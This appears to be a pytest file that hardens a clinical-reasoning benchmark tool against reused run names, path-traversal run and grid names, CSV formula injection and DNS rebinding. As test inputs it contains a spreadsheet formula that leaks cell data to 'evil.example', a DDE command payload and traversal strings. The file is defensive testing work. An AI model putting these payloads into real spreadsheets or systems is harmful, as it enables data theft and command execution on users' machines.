"""Hardening: a reused --run-name never merges two different runs; run and grid names never
become paths outside the results directory; CSV cells never start a spreadsheet formula; the
live report answers only requests addressed to localhost (no DNS rebinding)."""

from __future__ import annotations

import asyncio
import csv
import http.client
import json
import threading
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from clinreason import engine
from clinreason.cli import app
from clinreason.methods import build_method
from clinreason.models.scripted import ScriptedModel
from clinreason.store import Store
from clinreason.testing.fault_server import FaultServer

from conftest import make_item


def _reply(messages, params, i):
    return "ANSWER: A"


def _items(n: int = 4):
    return [make_item(i, answer="ABCD"[i % 4]) for i in range(n)]


def _plan(name="shared", method="direct", params=None, seed=0, items=None, **kw):
    return engine.RunPlan(benchmark="toy", subset=None, model_spec=kw.pop("model_spec", "model-a"),
                          method=build_method(method, params or {}, seed=seed), items=items or _items(),
                          seed=seed, name=name, **kw)


def _execute(plan, models, store):
    return asyncio.run(engine.execute(plan, models, store))


# --- 1. a reused run name ---------------------------------------------------------------------

@pytest.mark.parametrize("change, message", [
    ({"model": "model-b"}, "run shared exists with model scripted:model-a, not scripted:model-b"),
    ({"method": "cot"}, "run shared exists with method direct, not cot"),
    ({"params": {"max_tokens": 100}}, "max_tokens 64, not 100"),
    ({"seed": 7}, "run shared exists with seed 0, not 7"),
    ({"items": _items(3)}, "run shared exists with different items (4 items, not 3)"),
    ({"items": [make_item(i, answer="ABCD"[i % 4], question=f"Other question {i}?") for i in range(4)]},
     "different items"),
    ({"scorers": ("answer", "judge")}, "scorers"),
])
def test_reused_run_name_with_other_settings_is_refused_before_writing(tmp_path, change, message):
    store = Store(tmp_path / "results")
    first = ScriptedModel(_reply, identity="scripted:model-a")
    _execute(_plan(), first, store)
    before = store.get_run("shared")
    calls_before = store.count_calls()

    change = dict(change)
    model = ScriptedModel(_reply, identity=f"scripted:{change.pop('model', 'model-a')}")
    with pytest.raises(ValueError) as err:
        _execute(_plan(**change), model, store)
    assert message in str(err.value) and "--run-name" in str(err.value)
    # Nothing written: the run row, its items and the call log are as they were.
    assert store.get_run("shared") == before
    assert store.count_calls() == calls_before and model.calls == []
    assert len(store.run_items("shared")) == 4


def test_reused_run_name_with_other_role_model_is_refused(tmp_path):
    store = Store(tmp_path / "results")
    main = ScriptedModel(_reply, identity="scripted:model-a")
    _execute(_plan(roles={"patient": "p1"}), {"model": main, "patient": ScriptedModel(_reply, identity="p1")}, store)
    with pytest.raises(ValueError, match="patient"):
        _execute(_plan(roles={"patient": "p2"}), {"model": main, "patient": ScriptedModel(_reply, identity="p2")}, store)


def test_same_run_name_and_settings_resumes(tmp_path):
    store = Store(tmp_path / "results")
    model = ScriptedModel(_reply, identity="scripted:model-a")
    first = _execute(_plan(), model, store)
    again = _execute(_plan(), ScriptedModel(_reply, identity="scripted:model-a"), store)
    assert first["n_done"] == again["n_done"] == 4
    assert again["session"]["model_calls"] == 0  # resumed: nothing redone


@pytest.fixture(scope="module")
def url():
    with FaultServer(lifetime_s=300) as u:
        yield u


def _data(tmp_path: Path, n: int = 3) -> Path:
    path = tmp_path / "items.jsonl"
    path.write_text("".join(json.dumps({"question": f"Hardening question {i}?", "answer": "ABCD"[i % 4],
                                        "options": {"A": "a", "B": "b", "C": "c", "D": "d"}}) + "\n"
                            for i in range(n)))
    return path


def _run(url, data, out, *extra):
    result = CliRunner().invoke(app, ["run", str(data), "--out", str(out), "--method", "direct",
                                      "-m", f"openai-compat:{url}#fault", "--timeout", "30", *extra])
    return result.exit_code, result.output


def test_cli_run_name_reused_with_another_model_exits_2(tmp_path, url):
    data, out = _data(tmp_path), tmp_path / "results"
    code, output = _run(url, data, out, "--run-name", "mine")
    assert code == 0, output
    result = CliRunner().invoke(app, ["run", str(data), "--out", str(out), "--method", "direct", "--run-name", "mine",
                                      "-m", f"openai-compat:{url}#other", "--timeout", "30"])
    assert result.exit_code == 2, result.output
    assert "run mine exists with model" in result.output and "#other" in result.output
    store = Store(out)
    assert store.get_run("mine")["model_identity"].endswith("#fault")
    assert [m for (m,) in store.db.execute("SELECT DISTINCT model FROM calls")] == [f"openai-compat:{url}#fault"]


# --- 9. run and grid names ---------------------------------------------------------------------

@pytest.mark.parametrize("name", ["../../../X", "a/b", "..", ".hidden", "x" * 129, "a b", "a\\b", "", "ünï"])
def test_unsafe_run_names_are_refused(name):
    with pytest.raises(ValueError, match="run name"):
        _plan(name=name)


@pytest.mark.parametrize("name", ["ok", "A-b_c.1", "x" * 128, "run.v2"])
def test_safe_run_names_are_accepted(name):
    assert _plan(name=name).name == name


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_cli_run_name_escaping_results_exits_2_and_writes_nothing_outside(tmp_path, url):
    data = _data(tmp_path)
    out = tmp_path / "a" / "b" / "c" / "results"
    before = _files(tmp_path)
    code, output = _run(url, data, out, "--run-name", "../../../X")
    assert code == 2, output
    assert "run name" in output
    assert {p for p in _files(tmp_path) - before if out not in p.parents} == set()
    assert not list(tmp_path.rglob("X.json"))


def test_summary_path_refuses_a_stored_run_id_that_is_a_path(tmp_path):
    from clinreason.cli._common import write_summary_json

    with pytest.raises(ValueError):
        write_summary_json(tmp_path / "results", {"run_id": "../../evil"})
    assert not (tmp_path / "evil.json").exists()


def test_cli_grid_name_escaping_results_exits_2(tmp_path, url):
    data = _data(tmp_path, 2)
    out = tmp_path / "a" / "results"
    result = CliRunner().invoke(app, ["grid", "-b", str(data), "--methods", "direct", "-m",
                                      f"openai-compat:{url}#fault", "--out", str(out), "--name", "../../evilgrid"])
    assert result.exit_code == 2, result.output
    assert "grid name" in result.output
    assert not list(tmp_path.rglob("evilgrid*"))


# --- 10. CSV formula injection -----------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_csv_export_escapes_formula_cells(tmp_path):
    from clinreason.export import export_runs

    store = Store(tmp_path / "results")
    items = [make_item(0, id="=1+1", answer="A"), make_item(1, id="@SUM(A1)", answer="B"),
             make_item(2, id="q2", answer="C")]
    replies = {0: EVIL + "\nANSWER: A", 1: "+cmd|' /C calc'!A0\nANSWER: B", 2: "-2+3\nANSWER: C"}

    def script(messages, params, i):
        return replies[int(messages[-1].content.split("Toy question ")[1].split("?")[0])]

    plan = engine.RunPlan(benchmark="toy", subset=None, model_spec="s", method=build_method("direct"), items=items)
    _execute(plan, ScriptedModel(script, identity="s"), store)
    run_id = plan.run_id(ScriptedModel(script, identity="s"))
    export_runs(store, [run_id], tmp_path / "items.csv")
    export_runs(store, [run_id], tmp_path / "items.jsonl")
    with open(tmp_path / "items.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r", (column, value)
    by_pos = {int(r["position"]): r for r in rows}
    assert by_pos[0]["output"] == "'" + EVIL + "\nANSWER: A" and by_pos[0]["item_id"] == "'=1+1"
    assert by_pos[1]["item_id"] == "'@SUM(A1)" and by_pos[2]["output"].startswith("'-2+3")
    assert by_pos[0]["correct"] == "1.0" and by_pos[0]["prompt_tokens"].isdigit()  # numbers untouched
    jsonl = [json.loads(line) for line in (tmp_path / "items.jsonl").read_text().splitlines()]
    assert {r["output"] for r in jsonl} >= {EVIL + "\nANSWER: A"}  # JSON keeps text verbatim


def test_grid_csv_escapes_formula_cells(tmp_path):
    from clinreason.grid import write_outputs

    row = {"benchmark": "=cmd()", "subset": "\tx", "model": EVIL, "method": "@m", "n_done": 1, "accuracy": 0.5,
           "ci_low": -0.25, "ci_high": 0.9, "unparsed_rate": 0.0, "prompt_tokens_per_item": 10.0,
           "completion_tokens_per_item": 5.0, "tokens_per_item": 15.0, "calls_per_item": 1.0,
           "wall_s_per_item": 0.1, "cost_per_item_usd": None, "cost_total_usd": None, "pareto": True,
           "run_id": "-r", "params": {}}
    paths = write_outputs([row], tmp_path / "grids", "g")
    with open(paths["csv"], newline="", encoding="utf-8") as f:
        (out,) = list(csv.DictReader(f))
    assert out["benchmark"] == "'=cmd()" and out["model"] == "'" + EVIL and out["method"] == "'@m"
    assert out["subset"] == "'\tx" and out["run_id"] == "'-r"
    assert out["ci_low"] == "-0.25" and out["accuracy"] == "0.5"  # numbers stay numbers


# --- 11. DNS rebinding: the live report answers localhost Host headers only ------------------------

@pytest.fixture
def live(tmp_path):
    from clinreason.report.server import serve

    store = Store(tmp_path / "results")
    _execute(_plan(name="live-run"), ScriptedModel(_reply, identity="scripted:model-a"), store)
    store.close()
    port: list[int] = []
    thread = threading.Thread(target=serve, args=(tmp_path / "results",),
                              kwargs={"port": 0, "duration_s": 8.0, "on_bound": port.append}, daemon=True)
    thread.start()
    started = time.time()
    while not port and time.time() - started < 5:
        time.sleep(0.05)
    yield port[0]
    thread.join(timeout=12)


def _get(port: int, host: str | None) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.putrequest("GET", "/", skip_host=True)
        if host is not None:
            conn.putheader("Host", host)
        conn.endheaders()
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def test_view_refuses_foreign_host_headers(live):
    for host in ("evil.example", f"evil.example:{live}", f"127.0.0.1.evil.example:{live}", "localhost.evil.example",
                 f"attacker@127.0.0.1:{live}", None):
        status, body = _get(live, host)
        assert status in (403, 421), (host, status)
        assert b"live-run" not in body and b"clinreason" not in body.lower(), host
    for host in (f"127.0.0.1:{live}", "127.0.0.1", f"localhost:{live}", "LOCALHOST", f"[::1]:{live}", "[::1]"):
        status, body = _get(live, host)
        assert status == 200 and b"live-run" in body, (host, status)
